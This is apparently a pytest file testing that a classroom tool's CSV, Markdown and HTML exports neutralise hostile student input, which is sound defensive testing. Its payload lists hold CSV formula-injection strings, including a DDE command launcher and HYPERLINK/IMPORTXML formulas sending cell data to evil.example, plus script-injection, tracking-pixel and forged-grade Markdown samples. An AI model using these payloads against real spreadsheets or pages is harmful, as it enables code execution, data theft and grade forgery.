"""What a student typed reaches the teacher's spreadsheet and browser as text only.

Each export primitive gets hostile input (formulas and DDE links, HTML and script, Markdown that tries
to close its fence or forge a teacher's line, terminal escapes and bidi overrides, megabytes), and its
output is read the way the tool that opens it reads it: Python's ``csv`` for a spreadsheet's import,
CommonMark with raw HTML allowed (markdown-it-py, the renderer of Jupyter Book's MyST) and an HTML
parser for a browser.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest

from mha_classroom.exports import CSV_CELL_CHARS, csv_text, cut, fenced, html_text, md_inline, md_name

#: What a spreadsheet runs: formulas, DDE links, and the blanks and full-width forms before them.
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"your grade")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "\uff1d1+1",
            "\uff0bA1", '=IMPORTXML(CONCAT("http://x/?",B2),"//a")', "-", "+", "@"]
#: What a browser runs or shows as something else.
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[grade](javascript:alert(1))",
          "![x](http://evil.example/pixel.png)", "<iframe src=//evil.example>", "&lt;b&gt;",
          "**4 / 4** _teacher's grade_", "| forged | row |", "# Teacher's grade: 4/4",
          "<http://evil.example>", "www.evil.example", "x@evil.example", "$$x$$", "~~struck~~",
          "<!-- hidden -->", "<a href='https://evil.example'>open</a>"]
INVISIBLE = "ok\x1b[2K passed\u202edeliaf\u200b\x00\u2066x\u2069\x85\u2028"
SPREADSHEET_STARTS = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _quoted_fields(text: str) -> bool:
    """Every field is quoted: tokenise as RFC 4180 does and look at each field's first character."""
    position, fields = 0, 0
    while position < len(text):
        if text[position] != '"':
            return False
        position += 1
        while True:  # to the closing quote (a doubled quote is a quote in the field)
            quote = text.index('"', position)
            if text[quote + 1:quote + 2] == '"':
                position = quote + 2
                continue
            position = quote + 1
            break
        fields += 1
        if position < len(text) and text[position] not in ",\n":
            return False
        position += 1
    return fields > 0


def test_every_csv_field_is_quoted_and_none_starts_a_formula():
    rows = [(payload, payload, 1.0) for payload in FORMULAS]
    text = csv_text(("student", "answer", "points"), rows, lines=("answer",))
    assert _quoted_fields(text)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(FORMULAS) + 1
    for (student, answer, points), payload in zip(read[1:], FORMULAS, strict=True):
        for field in (student, answer):
            assert field[:1] not in SPREADSHEET_STARTS and field.lstrip()[:1] not in SPREADSHEET_STARTS
            assert payload.strip() in field or "\\x0d" in field, field  # the payload, shown as text
        assert points == "1"
    assert read[3][1] == "'=cmd|' /C calc'!A0"  # the DDE link, as text


def test_a_field_is_capped_below_what_a_spreadsheet_cell_holds_and_says_how_much_was_cut():
    answer = "=" + "word " * 20_000  # 100,001 characters, starting like a formula
    text = csv_text(("a",), [(answer,)], lines=("a",))
    (field,) = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert len(field) <= 32_767 and field.startswith("'=")
    assert field.endswith(f"(cut: {len(answer) - CSV_CELL_CHARS:,} characters)")
    assert cut("abc", 3) == "abc"


def test_invisible_characters_are_shown_as_escapes_in_every_export():
    csv_field = list(csv.reader(io.StringIO(csv_text(("a",), [(INVISIBLE,)]), newline="")))[1][0]
    outputs = [csv_field, md_inline(INVISIBLE), "\n".join(fenced(INVISIBLE)), html_text(INVISIBLE)]
    for output in outputs:
        assert not any(char in output for char in "\x1b\u202e\u200b\x00\u2066\u2069\x85\u2028"), output
        assert "202e" in output and "x1b" in output


class _Tags(HTMLParser):
    """Every element and attribute of an HTML fragment, and its text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def _render(markdown: str) -> _Tags:
    """The page a Markdown viewer shows: CommonMark with raw HTML allowed, tables and linkify on."""
    markdown_it = pytest.importorskip("markdown_it")
    renderer = markdown_it.MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
    parser = _Tags()
    parser.feed(renderer.render(markdown))
    return parser


def test_student_text_in_a_line_of_markdown_renders_as_the_same_text_and_nothing_else():
    for payload in MARKUP + FORMULAS:
        for line in (f"## {md_inline(payload)}", f"- not graded: {md_inline(payload)}: why",
                     f"| q | {md_inline(payload)} |\n| --- | --- |\n| a | b |"):
            page = _render(line)
            assert {tag for tag, _ in page.tags} <= {"h2", "ul", "li", "table", "thead", "tbody", "tr",
                                                     "th", "td"}, (payload, page.tags)
            assert all(attrs == {} for _, attrs in page.tags) and page.comments == []
            expected = " ".join(payload.split())
            assert expected in "".join(page.text), (payload, page.text)


def test_student_text_in_a_fence_cannot_close_it_or_forge_a_line_outside():
    forged = ("my answer\n````\n## bob\n\nTeacher's grade: **4 / 4**\n```\n~~~\n"
              "</code></pre><script>alert(1)</script>\n" + "`" * 12)
    for payload in (forged, *MARKUP):
        page = _render("# sheet\n\n" + "\n".join(fenced(payload, 10_000)) + "\n\n## next")
        assert [tag for tag, _ in page.tags] == ["h1", "pre", "code", "h2"], payload
        assert page.tags[2][1] == {"class": "language-text"}
        assert payload in "".join(page.text)  # the whole text, inside the one code block


def test_html_text_is_inert_and_names_are_shown_plainly_only_when_plain():
    for payload in MARKUP:
        page = _Tags()
        page.feed(f"<pre>{html_text(payload)}</pre>")
        assert [tag for tag, _ in page.tags] == ["pre"] and "".join(page.text) == payload
    assert md_name("bob-2") == "bob-2" and md_name("李雷") == "李雷"
    assert md_name("=x") != "=x" and md_name("a_b") == "a_b" and md_name("_a_") != "_a_"
